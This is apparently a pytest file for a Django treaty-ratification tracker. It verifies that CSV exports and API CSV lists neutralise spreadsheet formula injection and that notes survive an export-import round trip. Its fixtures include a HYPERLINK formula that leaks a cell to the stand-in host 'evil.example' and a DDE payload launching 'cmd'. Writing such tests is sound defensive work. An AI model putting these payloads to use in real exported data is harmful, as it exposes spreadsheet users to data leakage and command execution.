"""No CSV the tracker writes carries a formula: a note, alias or title that starts with
= + - @ (or a tab or carriage return) is written with a leading quote, numbers stay
numbers, and the export reads back through the import as it was (tracker.csv_cells).

Every hostile value below is made up for the tests.
"""

import csv
import io
from datetime import date

import pytest
from django.core.management import call_command
from django.urls import reverse
from rest_framework.test import APIClient

from signatories.models import Action, DomesticStep, Participant, ParticipantAlias
from signatories.services import record_action
from tracker.api.csv import lines
from tracker.csv_cells import FORMULA_STARTS, neutralise, safe_cell, unescape_cell
from tracker.exports import export_csv
from tracker.imports import import_status
from tracker.models import ReportedFigure, Source
from tracker.selectors import status_dict, treaty_status
from tracker.services import save_valid

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
SUM = "+SUM(1,2)"
AT_SUM = "@SUM(1+1)"
DDE = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
HOSTILE = [HYPERLINK, SUM, AT_SUM, DDE, TAB, CR]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_cell_is_a_formula(text: str) -> None:
    for row in cells(text):
        for cell in row:
            assert not cell or cell[0] not in FORMULA_STARTS or neutralise(cell) == cell, (cell, row)


# --- the rule ------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_cell_that_starts_like_a_formula_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-5, -0.25, 3, "-5", "+3", "-0.25", "1e-3", "-.5"])
def test_a_number_negative_or_not_stays_a_number(value):
    assert safe_cell(value) == str(value)


@pytest.mark.parametrize("value", ["-5 days", "-", "+", "- a dash", "--", "-1-1"])
def test_a_dash_or_plus_followed_by_anything_but_a_plain_number_is_text_and_quoted(value):
    assert safe_cell(value) == "'" + value


def test_dates_empty_cells_and_ordinary_text_are_written_as_they_are():
    assert safe_cell(date(2026, 2, 1)) == "2026-02-01"
    assert safe_cell(None) == ""
    assert safe_cell("Côte d'Ivoire") == "Côte d'Ivoire"
    assert safe_cell("'quoted' but harmless") == "'quoted' but harmless"
    assert safe_cell("a = b") == "a = b"


@pytest.mark.parametrize("value", [*HOSTILE, "'=already quoted", "''-x", "'-5", "-5", "'", "plain", "=", ""])
def test_reading_a_written_cell_back_gives_exactly_the_value(value):
    assert unescape_cell(safe_cell(value)) == value


# --- every CSV the project writes ------------------------------------------------------


def hostile_deposits(treaty) -> dict[str, str]:
    """A made-up ratification with a hostile note for each of six signatories: name → note."""
    signers = Participant.objects.filter(actions__treaty=treaty, kind="state").distinct().order_by("name")[:6]
    notes = {}
    for participant, note in zip(signers, HOSTILE, strict=True):
        record_action(treaty=treaty, participant=participant, kind="ratification", date=date(2026, 6, 1), note=note)
        notes[participant.name] = note
    return notes


def test_the_participants_csv_download_neutralises_a_hostile_note(seeded, client):
    notes = hostile_deposits(seeded)
    response = client.get(reverse("participants-csv", args=["hanoi-convention"]))
    text = response.content.decode()
    rows = {row["participant"]: row for row in csv.DictReader(io.StringIO(text))}
    for name, note in notes.items():
        assert rows[name]["note"] == "'" + note
        assert rows[name]["instrument_date"] == "2026-06-01"  # a date is not touched
    assert_no_cell_is_a_formula(text)


def api_csv(path: str) -> str:
    response = APIClient().get(path, {"format": "csv"})
    assert response.status_code == 200, path
    assert response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content).decode()


def test_every_api_csv_list_neutralises_hostile_notes_aliases_and_titles(seeded):
    notes = hostile_deposits(seeded)
    austria = Participant.objects.get(name="Austria")
    save_valid(ParticipantAlias(participant=austria, name=AT_SUM), "test")
    seeded.short_title, seeded.title = SUM, HYPERLINK
    save_valid(seeded, "test")
    source = save_valid(Source(url="https://example.org/hostile", title=DDE, publisher=TAB), "test")
    save_valid(
        ReportedFigure(treaty=seeded, reported_on=date(2026, 6, 2), figure=HYPERLINK, value=3, source=source, note=CR),
        "test",
    )
    save_valid(
        DomesticStep(treaty=seeded, participant=austria, date=date(2026, 5, 1), step=AT_SUM, note=SUM), "test"
    )
    written = {
        path: api_csv(f"/api/v1/{path}/")
        for path in [
            "treaties", "participants", "actions", "domestic-steps", "sources", "reported-figures",
            "treaties/hanoi-convention/participants",
        ]
    }  # fmt: skip
    for text in written.values():
        assert_no_cell_is_a_formula(text)
    # Each hostile value is there, quoted, where it was written.
    for path, value in [
        ("treaties", SUM), ("treaties", HYPERLINK), ("participants", AT_SUM), ("sources", DDE), ("sources", TAB),
        ("reported-figures", HYPERLINK), ("reported-figures", CR), ("domestic-steps", AT_SUM),
        ("domestic-steps", SUM), *[("actions", note) for note in notes.values()],
        *[("treaties/hanoi-convention/participants", note) for note in notes.values()],
    ]:  # fmt: skip
        everything = [cell for row in cells(written[path]) for cell in row]
        assert any(value in cell for cell in everything), (path, value)
        assert not any(cell.startswith(value) for cell in everything), (path, value)
    # A number stays a number: the reported figure's value, the participants' ISO numeric codes.
    figures = list(csv.DictReader(io.StringIO(written["reported-figures"])))
    assert [row["value"] for row in figures if row["note"] == "'" + CR] == ["3"]


def test_the_api_csv_writes_a_negative_number_as_a_number():
    text = "".join(lines([{"count": -5, "text": "-5 more", "ratio": -0.5}]))
    assert cells(text) == [["count", "text", "ratio"], ["-5", "'-5 more", "-0.5"]]


def test_export_status_neutralises_a_hostile_note_and_reimports_it_as_it_was(seeded, make_treaty):
    notes = hostile_deposits(seeded)
    out = io.StringIO()
    call_command("export_status", "hanoi-convention", "--as-of", "2026-11-22", stdout=out)
    exported = out.getvalue()
    assert exported == export_csv(seeded, date(2026, 11, 22))
    assert_no_cell_is_a_formula(exported)
    rows = {row["participant"]: row for row in csv.DictReader(io.StringIO(exported))}
    assert {name: rows[name]["note"] for name in notes} == {name: "'" + note for name, note in notes.items()}
    # The round trip: into an empty treaty, the notes come back as they were, not quoted
    # (the import strips every cell: a leading tab or CR goes, as it would unquoted).
    copy = make_treaty(slug="copy", reio_counts_as_additional=False)
    import_status(copy, "export.csv", exported)
    imported = Action.objects.filter(treaty=copy, kind="ratification").values_list("participant__name", "note")
    assert dict(imported) == {name: note.strip() for name, note in notes.items()}
    day = date(2026, 11, 22)
    assert status_dict(copy, treaty_status(copy, day)) == status_dict(seeded, treaty_status(seeded, day)) | {
        "treaty": "copy"
    }
    # The same file again changes nothing: the quote is never read as a new note.
    summary = import_status(copy, "export.csv", exported)
    assert (summary.created, summary.updated) == (0, 0)


def test_a_note_of_one_plus_one_survives_export_and_import_exactly(seeded, make_treaty):
    austria = Participant.objects.get(name="Austria")
    record_action(treaty=seeded, participant=austria, kind="ratification", date=date(2026, 6, 1), note="=1+1")
    exported = export_csv(seeded, date(2026, 11, 22))
    assert "'=1+1" in exported
    copy = make_treaty(slug="copy", reio_counts_as_additional=False)
    import_status(copy, "export.csv", exported)
    assert Action.objects.get(treaty=copy, participant=austria, kind="ratification").note == "=1+1"
